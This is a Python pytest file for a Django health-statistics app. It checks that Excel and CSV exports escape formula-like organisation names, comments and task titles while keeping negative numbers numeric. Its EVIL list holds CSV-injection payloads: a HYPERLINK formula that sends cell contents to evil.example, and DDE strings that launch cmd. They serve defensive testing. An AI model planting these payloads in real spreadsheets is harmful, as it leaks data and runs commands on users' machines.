"""Every Excel and CSV export keeps a name that looks like a formula as text, and numbers
(negative ones too) as numbers: org export, entry template, data CSV (page and command line),
analysis export, plan export."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from weijian import sheets, testing
from weijian.data import exports
from weijian.data.models import DataValue
from weijian.data.tests.helpers import put
from weijian.orgs.io import export_orgs

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def _cells(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_text_not_formula(content: bytes, text: str) -> None:
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell became a formula"
    holding = [c for c in cells if isinstance(c.value, str) and text in c.value]
    assert holding, f"{text!r} is not in the workbook"
    assert all(c.data_type == "s" for c in holding)


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+2", "@A1", "\t=1", "\r=1", "-", "=", "--1"])
def test_formula_like_texts_are_risky(value):
    assert sheets.is_risky(value)
    assert sheets.csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.5", "+3", "-0.0001", "1e5", "甲县人民医院", "", "2024Q1"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert not sheets.is_risky(value)
    assert sheets.csv_cell(value) == value
    assert sheets.csv_cell(-5) == -5 and sheets.csv_cell(Decimal("-1.5")) == Decimal("-1.5")


@pytest.mark.parametrize("evil", EVIL)
def test_org_export_keeps_a_malicious_name_as_text(city, evil):
    city.hospital_a.name = evil
    city.hospital_a.save()
    _assert_text_not_formula(export_orgs("xlsx"), evil)
    assert "'" + evil in _csv_cells(export_orgs("csv"))


def test_an_escaped_name_reads_back_as_written_when_the_csv_is_imported_again(city):
    from weijian.orgs.io import import_orgs
    from weijian.orgs.models import OrgUnit

    city.hospital_a.name = "=甲县人民医院"
    city.hospital_a.save()
    result = import_orgs(export_orgs("csv"), "orgs.csv")
    assert not result.errors
    assert OrgUnit.objects.get(pk=city.hospital_a.pk).name == "=甲县人民医院"


@pytest.fixture
def signed(city):
    element = testing.element("NET", "净增床位数", "张", min_value=None)
    form = testing.dataset("BEDS_Y", "床位年报", [element], "Y", org_levels=[5])
    put(element, city.hospital_a, "2024", -5)
    return element, form


@pytest.mark.parametrize("evil", EVIL[:3])
def test_entry_template_keeps_names_as_text_and_numbers_numeric(client, users, city, signed, evil):
    element, _form = signed
    city.hospital_a.name = evil
    city.hospital_a.save()
    client.force_login(users["county"])
    response = client.get(
        reverse("data_template"), {"dataset": "BEDS_Y", "org_unit": "C01A", "period": "2024"}
    )
    assert response.status_code == 200
    _assert_text_not_formula(response.content, evil)
    numbers = [c for c in _cells(response.content) if c.value == -5]
    assert numbers and all(c.data_type == "n" for c in numbers)


def test_data_csv_exports_and_the_command_line_escape_names_not_negative_numbers(city, signed, tmp_path):
    element, _form = signed
    city.hospital_a.name = EVIL[0]
    city.hospital_a.save()
    DataValue.objects.update(comment="@cmd")
    ours = _csv_cells(exports.export_csv(DataValue.objects.all()))
    assert "'" + EVIL[0] in ours and "'@cmd" in ours and "-5" in ours and "'-5" not in ours
    dhis2 = _csv_cells(exports.export_dhis2_csv(DataValue.objects.all()))
    assert "'@cmd" in dhis2 and "-5" in dhis2
    out = tmp_path / "values.csv"
    call_command("data", "export", "--format", "csv", "-o", str(out))
    assert "'" + EVIL[0] in _csv_cells(out.read_bytes())


def test_analysis_export_keeps_a_malicious_unit_name_as_text(client, users, city, reporting):
    city.hospital_a.name = EVIL[1]
    city.hospital_a.save()
    client.force_login(users["admin"])
    response = client.get("/analysis/export/?target=HTN_RATE&org_unit=C01A&period=2024")
    assert response.status_code == 200
    _assert_text_not_formula(response.content, EVIL[1])


def test_plan_export_keeps_a_malicious_task_title_as_text(client, users, city, settings, tmp_path):
    from weijian.plans.tests import helpers

    settings.MEDIA_ROOT = tmp_path / "media"
    helpers.catalogue()
    plan = helpers.make_plan(users["admin"], city)
    task = plan.tasks.first()
    task.title = EVIL[0]
    task.save()
    client.force_login(users["admin"])
    response = client.get(reverse("plans:export_xlsx", args=[plan.pk]))
    assert response.status_code == 200
    _assert_text_not_formula(response.content, EVIL[0])
